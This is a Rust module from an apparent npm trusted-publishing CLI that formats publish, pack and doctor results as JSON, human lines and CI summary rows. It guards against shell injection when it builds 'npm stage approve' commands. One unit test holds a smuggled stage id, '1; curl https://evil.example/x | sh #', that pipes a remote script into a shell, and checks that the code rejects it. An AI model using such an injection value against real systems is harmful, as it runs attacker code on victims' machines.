//! The report stage: what a command's result (or failure) looks like to its
//! reader, rendered through the [`Printer`]: the human lines, the CI's step
//! summary rows and annotations, and the `--json` documents, which are the
//! `Serialize` structs below (field order is the order npm and the JSON
//! shapes tests expect; `serde_json` keeps it).

pub mod trust;
pub mod workspace;

pub use trust::{trust_plan, trust_result};

use serde::ser::SerializeMap;
use serde::{Serialize, Serializer};

use crate::doctor::{DoctorReport, PackageOutcome, Status, WorkspaceReport};
use crate::error::Error;
use crate::pack::{self, Packed};
use crate::publish::{Outcome, PublishReport};
use crate::trust::ProvenanceDecision;
use crate::ui::{Level, Printer};

/// npm's `--json` error document (lib/utils/output-error.js `jsonError`,
/// keyed `error` by lib/utils/display.js): `code`, `summary` (the message)
/// and `detail` (causes, then the hint).
#[derive(Debug, Serialize)]
pub struct ErrorDoc {
    pub error: ErrorBody,
}

#[derive(Debug, Serialize)]
pub struct ErrorBody {
    pub code: String,
    pub summary: String,
    pub detail: String,
}

impl ErrorDoc {
    /// The object for a failure: npm's code, the message, and the causes
    /// and hint as the detail.
    pub fn from_error(e: &Error) -> ErrorDoc {
        let mut detail = e.causes();
        if let Some(h) = e.hint() {
            detail.push(h);
        }
        ErrorDoc {
            error: ErrorBody {
                code: e.npm_code().to_string(),
                summary: e.to_string(),
                detail: detail.join("\n"),
            },
        }
    }

    /// The object for an argument error, from clap's rendered text: its
    /// first paragraph (without `error: `, on one line) is the summary, the
    /// rest the detail.
    pub fn usage(text: &str) -> ErrorDoc {
        let (first, rest) = text.split_once("\n\n").unwrap_or((text, ""));
        let first = first.strip_prefix("error: ").unwrap_or(first);
        ErrorDoc {
            error: ErrorBody {
                code: "EUSAGE".into(),
                summary: first.split_whitespace().collect::<Vec<_>>().join(" "),
                detail: rest.trim().to_string(),
            },
        }
    }
}

/// npm's automatic-provenance decision in `--json`.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct DecisionJson<'a> {
    pub would_sign: bool,
    pub reason: &'a str,
}

impl<'a> From<&'a ProvenanceDecision> for DecisionJson<'a> {
    fn from(p: &'a ProvenanceDecision) -> Self {
        DecisionJson {
            would_sign: p.would_sign,
            reason: &p.reason,
        }
    }
}

/// `publish --json`: `{"<name>": record}`.
#[derive(Debug)]
pub struct PublishDoc<'a> {
    pub name: &'a str,
    pub record: PublishRecord<'a>,
}

impl Serialize for PublishDoc<'_> {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        let mut m = s.serialize_map(Some(1))?;
        m.serialize_entry(self.name, &self.record)?;
        m.end()
    }
}

/// npm's pack record, then what the publish did.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct PublishRecord<'a> {
    #[serde(flatten)]
    pub packed: &'a Packed,
    pub registry: &'a str,
    pub tag: &'a str,
    pub access: Option<&'static str>,
    pub auth: &'a str,
    pub trusted_publishing: TrustJson<'a>,
    pub provenance_decision: Option<DecisionJson<'a>>,
    /// The attached provenance, or `false`.
    pub provenance: Attached<'a>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub provenance_statement: Option<&'a serde_json::Value>,
    /// `--stage`: the registry's id for the staged version (npm's
    /// `stageId` in its record).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub stage_id: Option<&'a str>,
    pub outcome: &'static str,
}

#[derive(Debug, Serialize)]
pub struct TrustJson<'a> {
    pub mode: &'static str,
    pub ci: Option<&'static str>,
    pub used: bool,
    pub failure: Option<&'a str>,
}

/// The `provenance` field: what was attached, or `false`.
#[derive(Debug, Serialize)]
#[serde(untagged)]
pub enum Attached<'a> {
    Bundle(ProvenanceJson<'a>),
    Nothing(bool),
}

impl<'a> From<Option<&'a crate::publish::ProvenanceInfo>> for Attached<'a> {
    fn from(p: Option<&'a crate::publish::ProvenanceInfo>) -> Attached<'a> {
        match p {
            Some(p) => Attached::Bundle(ProvenanceJson {
                source: p.source,
                log_index: p.log_index,
                transparency_log: p.log_index.map(crate::provenance::search_url),
                bundle_sha256: &p.bundle_sha256,
            }),
            None => Attached::Nothing(false),
        }
    }
}

#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ProvenanceJson<'a> {
    pub source: &'static str,
    pub log_index: Option<u64>,
    pub transparency_log: Option<String>,
    pub bundle_sha256: &'a str,
}

impl<'a> PublishDoc<'a> {
    pub fn new(r: &'a PublishReport) -> PublishDoc<'a> {
        PublishDoc {
            name: &r.packed.name,
            record: PublishRecord {
                packed: &r.packed,
                registry: &r.registry,
                tag: &r.tag,
                access: r.access.map(|a| a.as_str()),
                auth: &r.auth,
                trusted_publishing: TrustJson {
                    mode: r.trust.mode.as_str(),
                    ci: r.trust.provider,
                    used: r.trust.used,
                    failure: r.trust.failure.as_deref(),
                },
                provenance_decision: r.trust.provenance.as_ref().map(DecisionJson::from),
                provenance: Attached::from(r.provenance.as_ref()),
                provenance_statement: r.provenance_statement.as_ref(),
                stage_id: match &r.outcome {
                    Outcome::Staged { stage_id } => stage_id.as_deref(),
                    _ => None,
                },
                outcome: match &r.outcome {
                    Outcome::Staged { .. } => "staged",
                    Outcome::Published | Outcome::PublishedDespiteError => "published",
                    Outcome::DryRun => "dry-run",
                    Outcome::AlreadyPublished { .. } => "already-published",
                },
            },
        }
    }
}

/// `doctor --json`.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct DoctorDoc<'a> {
    pub ready: bool,
    pub verdict: &'static str,
    pub package: &'a str,
    pub version: &'a str,
    pub registry: &'a str,
    pub ci: Option<&'static str>,
    pub checks: Vec<CheckJson<'a>>,
    pub trusted_publisher: Option<PublisherJson<'a>>,
    pub provenance: Option<DecisionJson<'a>>,
}

#[derive(Debug, Serialize)]
pub struct CheckJson<'a> {
    pub name: &'a str,
    pub status: &'static str,
    pub message: &'a str,
    pub fix: Option<&'a str>,
}

/// The trusted-publisher form: `provider`, then the form's fields in order
/// (a repeated key keeps its first place and its last value).
#[derive(Debug)]
pub struct PublisherJson<'a> {
    pub provider: &'static str,
    pub fields: &'a [(&'static str, String)],
}

impl Serialize for PublisherJson<'_> {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        let mut entries: Vec<(&str, &str)> = vec![("provider", self.provider)];
        for (k, v) in self.fields {
            match entries.iter_mut().find(|(key, _)| key == k) {
                Some(slot) => slot.1 = v,
                None => entries.push((k, v)),
            }
        }
        let mut m = s.serialize_map(Some(entries.len()))?;
        for (k, v) in entries {
            m.serialize_entry(k, v)?;
        }
        m.end()
    }
}

impl<'a> DoctorDoc<'a> {
    pub fn new(r: &'a DoctorReport) -> DoctorDoc<'a> {
        DoctorDoc {
            ready: r.ready(),
            verdict: r.verdict(),
            package: &r.package,
            version: &r.version,
            registry: &r.registry,
            ci: r.provider.map(crate::ci::Provider::user_agent_name),
            checks: r
                .checks
                .iter()
                .map(|c| CheckJson {
                    name: &c.name,
                    status: match c.status {
                        Status::Fail => "fail",
                        Status::Unknown => "unknown",
                        s => s.as_str(),
                    },
                    message: &c.message,
                    fix: c.fix.as_deref(),
                })
                .collect(),
            trusted_publisher: r
                .values
                .as_ref()
                .map(|(provider, fields)| PublisherJson { provider, fields }),
            provenance: r.provenance.as_ref().map(DecisionJson::from),
        }
    }
}

/// "would sign: …" / "would not sign: …".
fn would_sign(p: &ProvenanceDecision) -> String {
    format!(
        "would {}sign: {}",
        if p.would_sign { "" } else { "not " },
        p.reason
    )
}

/// `pack`'s result: the JSON array, or npm's notice block and the file name.
pub fn pack(printer: &Printer, packed: &Packed) {
    if printer.json {
        printer.json_doc(&[packed]);
    } else {
        for line in pack::notice_lines(packed, printer.unicode) {
            printer.notice(&line);
        }
        printer.out(&packed.filename);
    }
}

/// `publish`'s result: the JSON document, npm's `+ name@version`, the final
/// notice and the summary rows.
pub fn publish(printer: &Printer, r: &PublishReport) {
    let how = &r.auth_line;
    if printer.json {
        printer.json_doc(&PublishDoc::new(r));
    }
    let spec = format!("{}@{}", r.packed.name, r.packed.version);
    let line = match &r.outcome {
        Outcome::Published | Outcome::PublishedDespiteError => {
            format!("published {spec} to {} with tag {}, authenticated with {how}", r.registry, r.tag)
        }
        Outcome::Staged { stage_id } => format!(
            "staged {spec} on {} with tag {}, authenticated with {how}; it is not published until approved: {}",
            r.registry,
            r.tag,
            approve_command(&r.registry, stage_id.as_deref())
        ),
        Outcome::DryRun => format!(
            "dry run: would {} {spec} to {} with tag {}, authenticating with {how}; nothing was uploaded",
            if r.stage { "stage" } else { "publish" },
            r.registry,
            r.tag
        ),
        Outcome::AlreadyPublished { same_integrity } => format!(
            "{spec} was already on {} ({}); nothing was uploaded",
            r.registry,
            if *same_integrity { "the same tarball" } else { "a different tarball" }
        ),
    };
    // npm prints `+ name@version` after a publish (and a dry run); nothing
    // was published when the version was already there.
    if !printer.json {
        match &r.outcome {
            Outcome::AlreadyPublished { .. } => {}
            // npm 11.19.1's `npm stage publish` line.
            Outcome::Staged { stage_id: Some(id) } => {
                printer.out(&format!("+ {spec} (staged with id {id})"))
            }
            // npm prints it for a dry run of `npm stage publish` too.
            Outcome::Staged { stage_id: None } => printer.out(&format!("+ {spec} (staged)")),
            Outcome::DryRun if r.stage => printer.out(&format!("+ {spec} (staged)")),
            _ => printer.out(&format!("+ {spec}")),
        }
    }
    printer.notice(&line);
    printer.row("package", &format!("`{spec}`"));
    printer.row("registry", &r.registry);
    printer.row("tag", &r.tag);
    printer.row(
        "result",
        match &r.outcome {
            Outcome::Published | Outcome::PublishedDespiteError => "published",
            Outcome::Staged { .. } => "staged: not published until approved",
            Outcome::DryRun => "dry run: nothing uploaded",
            Outcome::AlreadyPublished { .. } => "already published: nothing uploaded",
        },
    );
    printer.row("authentication", how);
    if let Some(f) = &r.trust.failure {
        printer.row("trusted publishing", &format!("failed: {f}"));
    }
    if let Some(p) = &r.trust.provenance {
        printer.row("provenance", &format!("npm {}", would_sign(p)));
    }
}

/// How a staged version is approved (npm 11.19.1's `npm stage approve`,
/// which asks for the account's second factor).
pub fn approve_command(registry: &str, stage_id: Option<&str>) -> String {
    let registry = if crate::trust::is_npmjs(registry) {
        String::new()
    } else {
        format!(" --registry {registry}")
    };
    // An id is put into a command line only when nothing in it can mean
    // something to a shell (the registry chose it).
    let plain = |id: &str| {
        !id.is_empty()
            && id.len() <= 128
            && id
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
    };
    match stage_id {
        Some(id) if plain(id) => format!("npm stage approve {id}{registry}"),
        Some(_) => format!(
            "the registry's stage id is not one to paste into a command; find the staged version with `npm stage list{registry}`, then `npm stage approve <id>{registry}`"
        ),
        None => format!(
            "the registry answered no stage id; find it with `npm stage list{registry}`, then `npm stage approve <id>{registry}`"
        ),
    }
}

/// `doctor`'s report: the JSON document or the human lines, and the
/// summary rows.
pub fn doctor(printer: &Printer, r: &DoctorReport) {
    if printer.json {
        printer.json_doc(&DoctorDoc::new(r));
    } else {
        for line in r.lines() {
            printer.out(&line);
        }
    }
    printer.row("package", &format!("`{}@{}`", r.package, r.version));
    printer.row("registry", &r.registry);
    printer.row(
        "result",
        match r.verdict() {
            "ready" => "ready for trusted publishing",
            "unknown" => "cannot tell from the files (see the log)",
            _ => "not ready (see the log)",
        },
    );
    if let Some(p) = &r.provenance {
        printer.row("provenance", &would_sign(p));
    }
}

/// `doctor --json` over a workspace: the workspace, the publish order (or
/// the cycles that prevent one), one `doctor --json` document per package
/// that would be published (with its directory and whether the registry
/// knows it), the packages skipped (private; in a pnpm workspace also
/// those without a name or version), and the packages whose checks could
/// not run.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct WorkspaceDoctorDoc<'a> {
    pub ready: bool,
    pub verdict: &'static str,
    pub workspace: WorkspaceJson<'a>,
    pub order: Option<&'a [Vec<String>]>,
    pub cycles: Option<&'a [Vec<String>]>,
    pub packages: Vec<PackageDoctorJson<'a>>,
    pub skipped: Vec<SkippedJson<'a>>,
    pub failed: Vec<FailedJson<'a>>,
}

#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct WorkspaceJson<'a> {
    pub root: String,
    pub manager: &'static str,
    pub manager_reason: &'a str,
}

#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct PackageDoctorJson<'a> {
    pub directory: &'a str,
    /// The registry does not know the package: its first version needs a
    /// token (`bootstrap` says how).
    pub new_package: bool,
    pub bootstrap: Option<Vec<String>>,
    #[serde(flatten)]
    pub doctor: DoctorDoc<'a>,
}

#[derive(Debug, Serialize)]
pub struct SkippedJson<'a> {
    pub name: &'a str,
    pub version: Option<&'a str>,
    pub directory: &'a str,
    pub reason: &'static str,
}

#[derive(Debug, Serialize)]
pub struct FailedJson<'a> {
    pub name: &'a str,
    pub directory: &'a str,
    pub error: &'a str,
    pub hint: Option<&'a str>,
}

impl<'a> WorkspaceDoctorDoc<'a> {
    pub fn new(r: &'a WorkspaceReport) -> WorkspaceDoctorDoc<'a> {
        let mut doc = WorkspaceDoctorDoc {
            ready: r.ready(),
            verdict: r.verdict(),
            workspace: WorkspaceJson {
                root: r.root.display().to_string(),
                manager: r.manager.as_str(),
                manager_reason: &r.manager_reason,
            },
            order: r.order.as_ref().ok().map(Vec::as_slice),
            cycles: r.order.as_ref().err().map(Vec::as_slice),
            packages: Vec::new(),
            skipped: Vec::new(),
            failed: Vec::new(),
        };
        for p in &r.packages {
            match &p.outcome {
                PackageOutcome::Checked(report) => doc.packages.push(PackageDoctorJson {
                    directory: &p.dir,
                    new_package: report.new_package,
                    bootstrap: report
                        .new_package
                        .then(|| crate::doctor::bootstrap_lines(r.manager, p, report)),
                    doctor: DoctorDoc::new(report),
                }),
                PackageOutcome::Skipped { reason } => doc.skipped.push(SkippedJson {
                    name: &p.name,
                    version: p.version.as_deref(),
                    directory: &p.dir,
                    reason,
                }),
                PackageOutcome::Failed { error, hint } => doc.failed.push(FailedJson {
                    name: &p.name,
                    directory: &p.dir,
                    error,
                    hint: hint.as_deref(),
                }),
            }
        }
        doc
    }
}

/// `doctor` over a workspace: the JSON document or the human lines, and
/// one summary row per package.
pub fn doctor_workspace(printer: &Printer, r: &WorkspaceReport) {
    if printer.json {
        printer.json_doc(&WorkspaceDoctorDoc::new(r));
    } else {
        for line in r.lines() {
            printer.out(&line);
        }
    }
    printer.row(
        "workspace",
        &format!("`{}` ({})", r.root.display(), r.manager.as_str()),
    );
    for p in &r.packages {
        let what = match &p.outcome {
            PackageOutcome::Skipped { reason } => format!("skipped: {reason}"),
            PackageOutcome::Failed { error, .. } => format!("failed: {error}"),
            PackageOutcome::Checked(d) if d.new_package => {
                "not ready: new package (a first publish needs a token)".to_string()
            }
            PackageOutcome::Checked(d) => match d.verdict() {
                "ready" => "ready for trusted publishing".to_string(),
                "unknown" => "cannot tell from the files (see the log)".to_string(),
                _ => "not ready (see the log)".to_string(),
            },
        };
        let version = p.version.as_deref().unwrap_or("(no version)");
        printer.row(&format!("`{}@{version}`", p.name), &what);
    }
    printer.row(
        "result",
        match r.verdict() {
            "ready" => "ready for trusted publishing",
            "unknown" => "cannot tell from the files (see the log)",
            _ => "not ready (see the log)",
        },
    );
}

/// A failed command (`title` is `trustpub <command>`): the error with its
/// causes and hint, npm's error object with `--json` (on standard output,
/// the exit code unchanged), an annotation and the summary's result row.
pub fn error(printer: &Printer, title: &str, e: &Error) {
    printer.error(&e.to_string(), &e.causes(), e.hint().as_deref());
    if printer.json {
        printer.json_doc(&ErrorDoc::from_error(e));
    }
    let mut annotation = e.to_string();
    if let Some(h) = e.hint() {
        annotation.push_str("\nhint: ");
        annotation.push_str(&h);
    }
    printer.annotate(Level::Error, &format!("{title} failed"), &annotation);
    printer.row("result", &format!("failed: {e}"));
}

/// An argument error (or `--help`, `--version`) as clap renders it: errors
/// on standard error (and, when `--json` was asked for, npm's `EUSAGE`
/// object on standard output), help and version on standard output.
/// Returns the exit code (2 for an error, 0 otherwise).
pub fn usage(printer: &Printer, e: &clap::Error, json_requested: bool) -> u8 {
    let text = e.render().to_string();
    let text = text.trim_end_matches('\n');
    if e.use_stderr() {
        printer.raw_stderr(text);
        if json_requested {
            printer.json_doc(&ErrorDoc::usage(text));
        }
        2
    } else {
        printer.out(text);
        0
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_stage_id_goes_into_a_command_only_when_plain() {
        let reg = "https://registry.npmjs.org/";
        assert_eq!(
            super::approve_command(reg, Some("3f0c1a2b-0000-4000-8000-000000000001")),
            "npm stage approve 3f0c1a2b-0000-4000-8000-000000000001"
        );
        let odd = super::approve_command(reg, Some("1; curl https://evil.example/x | sh #"));
        assert!(
            !odd.contains("curl") && odd.contains("npm stage list"),
            "{odd}"
        );
        assert!(super::approve_command("http://127.0.0.1:9/", Some("a1"))
            .ends_with(" --registry http://127.0.0.1:9/"));
    }

    use super::*;

    #[test]
    fn a_usage_error_becomes_npms_error_object() {
        let doc = ErrorDoc::usage(
            "error: unexpected argument '--nope'\n  found\n\nUsage: trustpub pack [DIR]\n\nFor more information, try '--help'.",
        );
        assert_eq!(
            serde_json::to_value(&doc).unwrap(),
            serde_json::json!({"error": {
                "code": "EUSAGE",
                "summary": "unexpected argument '--nope' found",
                "detail": "Usage: trustpub pack [DIR]\n\nFor more information, try '--help'.",
            }})
        );
    }

    #[test]
    fn the_publisher_form_keeps_its_order() {
        let fields = [
            ("repository", "o/r".to_string()),
            ("workflow", "a.yml".to_string()),
            ("repository", "o/s".to_string()),
        ];
        let form = PublisherJson {
            provider: "github",
            fields: &fields,
        };
        assert_eq!(
            serde_json::to_string(&form).unwrap(),
            r#"{"provider":"github","repository":"o/s","workflow":"a.yml"}"#
        );
    }
}
